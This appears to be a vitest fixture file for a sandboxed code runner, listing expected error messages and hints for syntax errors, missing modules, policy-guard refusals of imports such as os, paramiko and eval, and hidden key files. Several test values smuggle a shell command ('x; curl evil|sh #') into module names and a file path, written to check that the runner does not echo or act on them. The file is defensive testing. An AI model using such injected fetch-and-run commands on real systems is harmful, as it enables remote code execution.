import { expect } from "vitest";
import { readReport } from "../index.ts";
import { type EndingRow, node, policy, python, raised } from "./ending-row.ts";

const strict = { ...python, policy: { ...policy, python: { ...policy.python, guard: "strict" as const } } };

function allowing(...allow: string[]) {
  return { ...python, policy: { ...policy, python: { ...policy.python, imports: { allow, block: [] } } } };
}

function hiding(...hide: string[]) {
  return { ...python, policy: { ...policy, files: { ...policy.files, hide } } };
}

function refusedByGuard(facts: object): EndingRow["ending"] {
  const guard = { code: "policy.import_denied", line: 1, column: 1, ...facts };
  return { kind: "exited", exitCode: 1, report: readReport({ outcome: "exception", guard }) };
}

export const CODE_ENDINGS: EndingRow[] = [
  // Text and modules.
  {
    title: "a syntax error",
    ending: raised({ type: "SyntaxError", message: "invalid syntax", syntax: { line: 4, column: 9, text: "x = = 1" } }),
    context: { ...python, source: "\n\n\n  x = = 1" },
    code: "code.syntax",
    message: "SyntaxError on line 4:9: invalid syntax",
    hint: "line 4, at: x = = 1",
    data: { line: 4, column: 9 },
  },
  {
    title: "code that is nested too deeply",
    ending: raised({ type: "MemoryError", message: "too deeply nested", syntax: { line: 1 } }),
    code: "code.syntax",
    message: "on line 1",
    hint: "Correct",
    data: { line: 1 },
  },
  {
    title: "a SyntaxError that running code raised",
    ending: raised({ type: "SyntaxError", message: "bad", line: 2 }),
    code: "code.exception",
    message: "SyntaxError: bad (line 2)",
    hint: "line 2",
  },
  {
    title: "a syntax error under Node",
    ending: raised({ type: "SyntaxError", message: "Unexpected token", syntax: { line: 2 } }),
    context: node,
    code: "code.syntax",
    message: "line 2",
    hint: "line 2",
  },
  {
    title: "JSON.parse under Node",
    ending: raised({ type: "SyntaxError", message: "Unexpected end of JSON input", line: 2 }),
    context: node,
    code: "code.exception",
    message: "JSON",
    hint: "line 2",
  },
  {
    title: "a module whose file is hidden",
    ending: raised({ type: "ModuleNotFoundError", bases: ["ImportError"], module: "keys.id_rsa_tools", line: 1 }),
    context: hiding("**/id_rsa*"),
    code: "code.import_missing",
    message: "The module keys.id_rsa_tools is not there: the policy hides files of that name.",
    hint: "If it is keys/id_rsa_tools.py of the workspace, give the file another name. The rule is `**/id_rsa*` in files.hide",
    data: { module: "keys.id_rsa_tools" },
  },
  {
    title: "a file that is hidden, under Node",
    ending: raised({ type: "Error", code: "MODULE_NOT_FOUND", module: "/work/lib/id_rsa_tools" }),
    context: { ...hiding("**/id_rsa*"), language: "node" },
    code: "code.import_missing",
    message: "the policy hides files of that name",
    hint: "If it is lib/id_rsa_tools of the workspace",
  },
  {
    title: "a missing module",
    ending: raised({ type: "ModuleNotFoundError", bases: ["ImportError"], module: "scipy.stats", line: 1 }),
    code: "code.import_missing",
    message: "scipy.stats",
    hint: "Write scipy into a requirements file F, and run it again with --requirements F --install",
    data: { module: "scipy.stats", package: "scipy", line: 1 },
  },
  {
    title: "a missing module under another name",
    ending: raised({ type: "ModuleNotFoundError", module: "cv2" }),
    code: "code.import_missing",
    message: "cv2",
    hint: "Write opencv-python into",
    data: { package: "opencv-python" },
  },
  {
    title: "a missing module, whose package needs hosts",
    ending: raised({ type: "ModuleNotFoundError", module: "fitz" }),
    code: "code.import_missing",
    message: "fitz",
    hint: "The owner allows the hosts of the package index first, `drydock policy allow network HOST:443`",
    data: { package: "PyMuPDF" },
  },
  {
    title: "sklearn",
    ending: raised({ type: "ModuleNotFoundError", module: "sklearn" }),
    code: "code.import_missing",
    message: "sklearn",
    hint: "Write scikit-learn into",
    data: { package: "scikit-learn" },
  },
  {
    title: "a missing module under the strict guard",
    ending: raised({ type: "ModuleNotFoundError", module: "polars" }),
    context: { ...python, policy: { ...policy, python: { ...policy.python, guard: "strict" } } },
    code: "code.import_missing",
    message: "polars",
    hint: "one of the allowed",
  },
  {
    title: "a missing package under Node",
    ending: raised({ type: "Error", code: "ERR_MODULE_NOT_FOUND", module: "@scope/name/part.js" }),
    context: node,
    code: "code.import_missing",
    message: "@scope/name",
    hint: "npm install @scope/name.",
    data: { package: "@scope/name" },
  },
  {
    title: "a missing file under Node",
    ending: raised({ type: "Error", code: "MODULE_NOT_FOUND", module: "./lib.js" }),
    context: node,
    code: "code.import_missing",
    message: "./lib.js",
    hint: "a file of your own",
  },
  {
    title: "a missing module without a name",
    ending: raised({ type: "Error", code: "MODULE_NOT_FOUND", message: "Cannot find module" }),
    context: node,
    code: "code.import_missing",
    message: "Cannot find module",
    hint: "put it into the workspace",
  },

  // Everything else.
  {
    title: "an exception",
    ending: raised({ type: "__main__.Oops", message: "bad", line: 2, column: 5, traceback: "Traceback…" }),
    code: "code.exception",
    message: "Oops: bad (line 2)",
    hint: "line 2",
    data: { exception: "__main__.Oops", line: 2, column: 5, traceback: "Traceback…" },
  },
  {
    title: "an exception without words",
    ending: raised({ type: "AssertionError" }),
    code: "code.exception",
    message: "AssertionError",
    hint: "traceback",
  },
  {
    title: "endless recursion",
    ending: raised({ type: "RecursionError", line: 1 }),
    code: "code.exception",
    message: "RecursionError",
    hint: "loop",
  },
  {
    title: "input() at the end of the input",
    ending: raised({ type: "EOFError" }),
    code: "code.exception",
    message: "EOFError",
    hint: "--stdin",
  },
  {
    title: "a name that a module does not have",
    ending: raised({ type: "ImportError", module: "math" }),
    code: "code.exception",
    message: "ImportError",
    hint: "version",
  },
  {
    title: "an exception under Node",
    ending: raised({ type: "TypeError", message: "x is not a function", line: 3, stack: "TypeError…" }),
    context: node,
    code: "code.exception",
    message: "TypeError: x is not a function (line 3)",
    hint: "line 3",
    data: { traceback: "TypeError…" },
  },
  { title: "cancelled", ending: { kind: "cancelled" }, code: "run.cancelled", message: "cancelled", hint: "again" },
  {
    title: "a sandbox that died",
    ending: { kind: "lost", reason: "the member was killed" },
    code: "internal",
    message: "the member was killed",
    hint: "drydock doctor",
  },
  {
    title: "what the guard refused",
    ending: {
      kind: "exited",
      exitCode: 1,
      report: readReport({
        outcome: "exception",
        guard: {
          code: "policy.import_denied",
          name: "os",
          line: 1,
          column: 8,
          what: "importing",
          reason: "os",
          advice: "never",
        },
      }),
    },
    context: { ...strict, file: "main.py" },
    code: "policy.import_denied",
    message: 'main.py:1:8: importing "os" is refused by the strict guard',
    hint: "Use pathlib for paths and files; the environment is not readable. The strict guard never allows it; --unsafe",
    data: { name: "os", line: 1, column: 8, allowed: expect.arrayContaining(["math", "json", "pathlib", "pandas"]) },
  },
  {
    title: "what the guard refused, and the owner may add",
    ending: refusedByGuard({ name: "paramiko", reason: "paramiko", what: "importing", advice: "add" }),
    context: allowing("math"),
    code: "policy.import_denied",
    message: '<string>:1:1: importing "paramiko" is refused by the policy (python)',
    hint: "The owner can add it: python.imports.allow: [paramiko].",
    data: { allowed: ["math"] },
  },
  {
    title: "a call that the guard refused",
    ending: refusedByGuard({
      code: "policy.call_denied",
      name: "eval",
      reason: "eval",
      what: "calling",
      advice: "never",
    }),
    context: strict,
    code: "policy.call_denied",
    message: '<string>:1:1: using "eval" is refused by the strict guard',
    hint: "The strict guard never allows it",
    data: { name: "eval", allowed: [] },
  },
  {
    title: "a name of the guard's that is none",
    ending: refusedByGuard({ name: "x; curl evil|sh #", reason: "x", what: "importing", advice: "add" }),
    context: allowing("math"),
    code: "policy.import_denied",
    message: "importing a name that can't be shown is refused",
    hint: "The owner can add it to python.imports.allow.",
  },
  {
    title: "a module whose name is a command",
    ending: raised({ type: "ModuleNotFoundError", message: "no", module: "x; curl evil|sh #" }),
    code: "code.import_missing",
    message: "ModuleNotFoundError: no",
    hint: "If it is a file of your own, put it into the workspace under the name that you import.",
  },
  {
    title: "a package of Node's whose name is a command",
    ending: raised({ type: "Error", message: "no", code: "MODULE_NOT_FOUND", module: "x;curl" }),
    context: node,
    code: "code.import_missing",
    message: "Error: no",
    hint: "If it is a file of your own",
  },
  {
    title: "a path that is a command",
    ending: raised({ type: "PermissionError", errno: 30, path: "a; curl evil|sh" }),
    context: { ...python, policy: { ...policy, files: { ...policy.files, write: ["src/**"] } } },
    code: "policy.path_denied",
    message: "The policy does not allow changes to a; curl evil|sh.",
    hint: "let the owner widen it: drydock policy allow write 'GLOB'",
  },
];
